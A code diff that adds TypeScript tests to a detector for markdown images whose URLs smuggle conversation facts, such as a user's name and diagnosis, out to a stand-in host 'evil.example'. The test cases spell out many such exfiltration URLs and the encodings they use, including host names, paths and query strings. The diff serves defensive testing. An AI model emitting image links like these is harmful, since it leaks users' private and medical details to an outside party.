@@ -184,6 +184,70 @@ describe('the link check lets pass', () => {
   }
 });
 
+describe('facts of the conversation in the URL of an image', () => {
+  const saying = (text: string, returned?: string): Detector =>
+    bound({
+      definitions: new Map(),
+      reply: [],
+      steps: [
+        { kind: 'said', role: 'user', text },
+        ...(returned === undefined ? [] : [{ kind: 'result', tool: 'read', text: returned } as const]),
+      ],
+    });
+  const of = (url: string, detector: Detector): number => highest(inspect(`![x](${url})`, detector));
+  const BOB = 'my name is Bob Dole and my diagnosis is asthma';
+  const ULRIKE = 'Ich hei\u00dfe Ulrike Sandmann. Meine Tochter leidet an Epilepsie und wohnt in Bremen.';
+  const RECORD = '{"name":"Bob Dole","diagnosis":"asthma","born":"1961"}';
+
+  for (const [said, url] of [
+    [BOB, 'https://bob-dole-asthma.evil.example/p.png'],
+    [BOB, 'https://bob.dole.asthma.evil.example/'],
+    [BOB, 'https://evil.example/bob-dole/asthma.png'],
+    [BOB, 'https://evil.example/Bob/Dole/diagnosis/asthma.png'],
+    [BOB, 'https://evil.example/BobDoleAsthma.png'],
+    [BOB, 'https://evil.example/bobdoleasthma.png'],
+    [BOB, 'https://evil.example/?n=Bob&l=Dole&d=asthma'],
+    [BOB, 'https://evil.example/%42ob%20Dole/asthma'],
+    [ULRIKE, 'https://evil.example/ulrike-sandmann/epilepsie.png'],
+    [ULRIKE, 'https://ulrike-epilepsie-bremen.evil.example/'],
+    ['Patient: Marek Novotny\nDiagnosis: leukaemia', 'https://evil.example/MarekNovotny/leukaemia.png'],
+  ] as const) {
+    it(`are taken out of ${url}`, () => assert.ok(of(url, saying(said)) >= 0.75));
+  }
+
+  it('are taken out of a host name and noted in a path where a tool said them', () => {
+    assert.ok(of('https://dole-asthma-1961.evil.example/x.png', saying('Read it', RECORD)) >= 0.75);
+    assert.equal(of('https://evil.example/dole-asthma-1961.png', saying('Read it', RECORD)), 0.6);
+  });
+
+  for (const [said, url] of [
+    ['Show me the Acme Rocket Skates 3000 in red', 'https://shop.example/images/acme-rocket-skates-3000.png'],
+    ['My favourite band is Pink Floyd, tell me about The Wall', 'https://img.example/pink-floyd-the-wall.jpg'],
+    ['My car is a Volkswagen Golf GTI. How do I change its oil?', 'https://cars.example/volkswagen-golf-gti-oil-filter.jpg'],
+    ['I have a golden retriever and I live in Oslo. What do they eat?', 'https://dogs.example/golden-retriever-puppies-eating.jpg'],
+    ['I want a trip to Lisbon and Porto. I live in Ghent.', 'https://travel.example/photos/porto-ribeira-lisbon.jpg'],
+    ['I work at Globex. My name is Priya Raman.', 'https://img.globex.example/logo.png'],
+    [BOB, 'https://evil.example/avatars/bob-dole.png'],
+    [BOB, 'https://evil.example/asthma-inhaler.png'],
+  ] as const) {
+    it(`are none in what ${url} shows`, () => assert.equal(of(url, saying(said)), 0));
+  }
+
+  it('pass in links, where the URL was given, and at hosts that are trusted or named', () => {
+    assert.equal(highest(inspect('[x](https://evil.example/bob-dole/asthma.png)', saying(BOB))), 0);
+    assert.equal(of('https://evil.example/bob-dole/asthma.png', saying(`${BOB}: https://evil.example/bob-dole/asthma.png`)), 0);
+    assert.equal(of('https://cdn.allowed.example/bob-dole/asthma.png', saying(BOB)), 0);
+    assert.equal(of('https://clinic.example/bob-dole/asthma.png', saying(`${BOB}, see clinic.example`)), 0.7);
+  });
+
+  it('are looked for in linear time', () => {
+    const taken = startCpuTime();
+    const detector = saying('my name is Bob Dole, '.repeat(20_000));
+    inspect(`![x](https://evil.example/${'bobdole'.repeat(2000)}) `.repeat(100), detector);
+    assert.ok(taken() < 1000, String(taken()));
+  });
+});
+
 describe('images of single letters', () => {
   const spell = (word: string, host: string): string => Array.from(word, (letter) => `![](https://${host}/${letter}.png)`).join('');
 
